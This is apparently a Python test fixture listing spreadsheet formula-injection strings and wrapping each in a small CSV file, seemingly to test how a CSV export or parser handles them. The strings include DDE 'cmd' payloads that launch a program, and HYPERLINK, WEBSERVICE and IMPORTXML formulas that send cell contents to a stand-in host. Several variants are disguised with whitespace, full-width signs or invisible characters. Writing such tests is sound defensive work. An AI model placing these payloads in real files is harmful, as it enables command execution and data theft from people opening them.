"""Cells that a spreadsheet would run."""

from tests.hostile.corpus.file import File
from tests.hostile.corpus.texts import table

STRINGS = {
    "a link": '=HYPERLINK("https://evil.example?x="&A1,"Prize") won',
    "a program": "=cmd|' /C calc'!A0",
    "a program after a plus": "+1+cmd|' /C calc'!A0 lost",
    "a program after a minus": "-2+3+cmd|' /C calc'!A0 drawn",
    "a sum after an at": "@SUM(1+1)*cmd|' /C calc'!A0 held",
    "DDE": '=DDE("cmd";"/C calc";"!A0")',
    "a web service": '=WEBSERVICE("https://evil.example/"&A1)',
    "an import": '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "a picture": '=IMAGE("https://evil.example/p.png")',
    "a tab before": "\t=1+1 after a tab",
    "a line end before": "\r=1+1 after a return",
    "a new line before": "\n=1+1 after a new line",
    "a space before": "  =1+1 after spaces",
    "full width": "＝1+1 full width",
    "full width plus": "＋1+1 full width",
    "full width at": "＠SUM(A1) full width",
    "a quotation mark before": '"=1+1" in quotes',
    "a semicolon before": ";=1+1 after a semicolon",
    "an invisible letter before": "\u200b=1+1 after an invisible letter",
    "a mark before": "\ufeff=1+1 after a mark",
    "an apostrophe before": "'=1+1 after an apostrophe",
    "an array": "{=SUM(1/0)} braces",
    "an error": "#REF! broken",
    "R1C1": "=R1C1&R[-1]C",
}


def one(text):
    """A table in which the string stands in every column, the name of one included."""
    return table(
        [["headline", "publisher", text], [f"{text}", text, text], ["Bank raises rates", text, text]]
    )


FILES = {name: File("a.csv", one(text), headlines=2) for name, text in STRINGS.items()}
